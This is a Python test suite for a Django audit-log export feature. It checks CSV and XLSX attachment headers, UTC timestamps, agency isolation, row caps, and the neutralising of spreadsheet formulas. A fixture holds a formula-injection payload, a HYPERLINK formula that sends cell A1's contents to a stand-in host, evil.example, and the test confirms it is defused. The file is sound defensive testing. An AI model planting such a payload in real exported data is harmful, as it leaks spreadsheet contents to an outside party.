from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from mhr.audit import exports
from mhr.audit.models import AuditEvent
from mhr.core.spreadsheets import (
    FORMULA_TRIGGERS,
    XLSX_CONTENT_TYPE,
    neutralize_formula,
    write_csv,
    write_xlsx,
)

CSV = reverse("audit:event_export_csv")
XLSX = reverse("audit:event_export_xlsx")

EventType = AuditEvent.EventType
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def at(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text).replace(tzinfo=dt.UTC)


@pytest.fixture
def events(alice, carol, sam, agency_a, agency_b) -> dict[str, AuditEvent]:
    return {
        "a": AuditEvent.objects.create(
            occurred_at=at("2025-11-27 21:30:42.179999"),
            event_type=EventType.RESOURCE_CHANGED,
            actor=alice,
            actor_label=alice.email,
            agency=agency_a,
            object_type="clearinghouse.resource",
            object_id="12",
            object_repr=INJECTION,
            ip_address="203.0.113.7",
            extra={"title": "@SUM(1+1)", "why": "-2+3"},
        ),
        "b": AuditEvent.objects.create(
            occurred_at=at("2025-11-20 08:00:00.05"),
            event_type=EventType.SIGN_IN_FAILED,
            outcome=AuditEvent.Outcome.FAILURE,
            actor=carol,
            actor_label=carol.email,
            agency=agency_b,
            object_repr="Shelbyville roster",
        ),
        "staff": AuditEvent.objects.create(
            occurred_at=at("2025-11-10 12:00:00"),
            event_type=EventType.RESOURCE_CREATED,
            actor=sam,
            actor_label=sam.email,
            object_repr="+1 555 0100",
        ),
    }


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_sheets(response) -> dict[str, list[list]]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in workbook.worksheets
    }


def export_rows() -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(extra__action=exports.EXPORT_ACTION))


# Excludes the audit rows the exports themselves write "now".
PAST = {"ends_on": "2025-12-31"}


# CSV


def test_it_streams_csv_as_an_attachment(client_for, sam, events):
    response = client_for(sam).get(CSV, PAST)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
    assert response["Content-Disposition"].endswith('.csv"')
    assert "no-store" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = csv_rows(response)
    assert rows[0] == list(exports.EXPORT_HEADERS)
    assert [row[0] for row in rows[1:]] == [
        str(events["a"].pk),
        str(events["b"].pk),
        str(events["staff"].pk),
    ]


def test_it_exports_times_in_utc_to_the_hundredth_of_a_second(client_for, sam, events):
    rows = csv_rows(client_for(sam).get(CSV, PAST))
    assert [row[1] for row in rows[1:]] == [
        "2025-11-27 21:30:42.17",
        "2025-11-20 08:00:00.05",
        "2025-11-10 12:00:00.00",
    ]


def test_it_neutralises_formulas_in_csv_cells(client_for, sam, events):
    rows = csv_rows(client_for(sam).get(CSV, PAST))
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id[str(events["a"].pk)][10] == "'" + INJECTION
    assert by_id[str(events["staff"].pk)][10] == "'+1 555 0100"
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS)


def test_it_exports_every_row_of_a_large_log_in_chunks(client_for, sam, agency_a):
    AuditEvent.objects.bulk_create(
        AuditEvent(event_type=EventType.TOKEN_USED, agency=agency_a, object_repr=f"Row {n}")
        for n in range(exports.CSV_CHUNK_SIZE + 150)
    )
    rows = csv_rows(client_for(sam).get(CSV, {"event_type": EventType.TOKEN_USED}))
    assert len(rows) == 1 + exports.CSV_CHUNK_SIZE + 150


def test_it_produces_the_same_bytes_when_exported_twice(client_for, sam, events):
    client = client_for(sam)
    first = b"".join(client.get(CSV, PAST).streaming_content)
    second = b"".join(client.get(CSV, PAST).streaming_content)
    assert first == second
    times = [row[1] for row in csv.reader(io.StringIO(first.decode("utf-8-sig")))][1:]
    assert times == sorted(times, reverse=True)


def test_it_records_each_csv_export_in_the_audit_log(client_for, alice, agency_a, events):
    response = client_for(alice).get(CSV, {"outcome": "success", "text": "hyper"})
    b"".join(response.streaming_content)
    (row,) = export_rows()
    assert row.actor == alice
    assert row.agency == agency_a
    assert row.ip_address == "127.0.0.1"
    assert row.extra["format"] == "csv"
    assert row.extra["filters"] == {"outcome": "success", "text": "hyper"}
    assert row.extra["filename"] in response["Content-Disposition"]
    assert "WA0170000" in row.extra["filename"]


# XLSX


def test_it_sends_xlsx_as_an_attachment_with_formulas_neutralised(client_for, sam, events):
    response = client_for(sam).get(XLSX, PAST)
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheets = xlsx_sheets(response)
    rows = sheets["Audit log"]
    assert rows[0] == list(exports.EXPORT_HEADERS)
    assert [row[0] for row in rows[1:]] == [events["a"].pk, events["b"].pk, events["staff"].pk]
    assert rows[1][1] == "2025-11-27 21:30:42.17"
    assert rows[1][10] == "'" + INJECTION
    for row in rows:
        for cell in row:
            assert not (isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS))
    assert "Rows: 3 of 3 matching, newest first." in [row[0] for row in sheets["Notes"]]


def test_it_caps_xlsx_rows_and_says_so(client_for, sam, events, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
    response = client_for(sam).get(XLSX, PAST)
    sheets = xlsx_sheets(response)
    assert [row[0] for row in sheets["Audit log"][1:]] == [events["a"].pk, events["b"].pk]
    notes = " ".join(row[0] for row in sheets["Notes"])
    assert "Rows: 2 of 3 matching" in notes
    assert "Only the newest 2 matching rows are included" in notes
    (row,) = export_rows()
    assert row.extra["format"] == "xlsx"
    assert row.extra["rows"] == 2
    assert row.extra["truncated"] is True


# Cross-agency


def export_text(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8-sig")
    return str(xlsx_sheets(response)["Audit log"])


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_it_never_exports_another_agencys_rows_to_carol(url, client_for, carol, events):
    client = client_for(carol)
    content = export_text(client.get(url))
    assert "alice@" not in content
    assert "Springfield" not in content
    assert "Shelbyville roster" in content
    for params in [{"text": "HYPERLINK"}, {"agency": "WA0170000"}, {"actor": "alice"}]:
        response = client.get(url, {**PAST, **params})
        assert response.status_code == 200
        content = export_text(response)
        assert "alice@" not in content
        assert "HYPERLINK" not in content
        assert "+1 555" not in content
    # Her own exports are recorded against her agency, not A's.
    assert {row.agency_id for row in export_rows()} == {carol.membership.agency_id}


def test_it_exports_only_agency_a_rows_for_alice(client_for, alice, events):
    rows = csv_rows(client_for(alice).get(CSV, PAST))
    assert [row[0] for row in rows[1:]] == [str(events["a"].pk)]


def test_it_exports_every_agency_for_sam(client_for, sam, events):
    rows = csv_rows(client_for(sam).get(CSV, PAST))
    assert {row[6] for row in rows[1:]} == {"WA0170000", "OR0260000", ""}


# The shared spreadsheet helpers

triggers = st.sampled_from(FORMULA_TRIGGERS)


@given(st.text())
def test_neutralize_formula_never_leaves_a_formula_trigger_first(value):
    result = neutralize_formula(value)
    assert not result.startswith(FORMULA_TRIGGERS)
    if value.startswith(FORMULA_TRIGGERS):
        assert result == "'" + value
    else:
        assert result == value


@given(triggers, st.text())
def test_neutralize_formula_prefixes_every_trigger(trigger, rest):
    assert neutralize_formula(trigger + rest) == "'" + trigger + rest


@pytest.mark.parametrize("value", [None, 0, -5, 3.5, dt.date(2026, 1, 1), True])
def test_neutralize_formula_leaves_non_text_alone(value):
    assert neutralize_formula(value) is value


def read_back_csv(values: list[str]) -> list[str]:
    text = "".join(write_csv([values], ["header"]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows[0] == ["header"]
    return rows[1]


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_write_csv_cells_never_start_with_a_trigger_unless_quoted(values):
    for original, cell in zip(values, read_back_csv(values), strict=True):
        assert not cell.startswith(FORMULA_TRIGGERS)
        assert cell == neutralize_formula(original)


@given(st.lists(st.text().filter(lambda v: not v.startswith(FORMULA_TRIGGERS)), min_size=1))
def test_write_csv_round_trips_ordinary_text_unchanged(values):
    assert read_back_csv(values) == values


ordinary = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=50).filter(
    lambda v: not v.startswith(FORMULA_TRIGGERS)
)


@given(st.lists(st.text(max_size=50), min_size=1, max_size=4))
def test_write_xlsx_cells_never_start_with_a_trigger(values):
    workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx([values], ["header"])))
    (row,) = list(workbook.active.iter_rows(min_row=2, values_only=True))
    for cell in row:
        assert not (isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS))


@given(st.lists(ordinary.filter(bool), min_size=1, max_size=4))
def test_write_xlsx_round_trips_ordinary_text_unchanged(values):
    workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx([values], ["header"])))
    (row,) = list(workbook.active.iter_rows(min_row=2, values_only=True))
    assert list(row) == values


def test_write_xlsx_replaces_characters_the_format_forbids():
    workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx([["a\x00b\x1bc"]], ["h"])))
    assert workbook.active["A2"].value == "a\ufffdb\ufffdc"
